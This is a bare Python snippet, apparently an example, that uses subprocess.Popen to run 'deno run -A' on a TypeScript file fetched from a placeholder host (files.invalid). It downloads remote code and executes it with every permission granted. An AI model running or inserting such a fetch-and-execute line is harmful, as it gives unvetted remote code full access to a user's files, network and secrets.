import subprocess

subprocess.Popen(["deno", "run", "-A", "https://files.invalid/step.ts"])
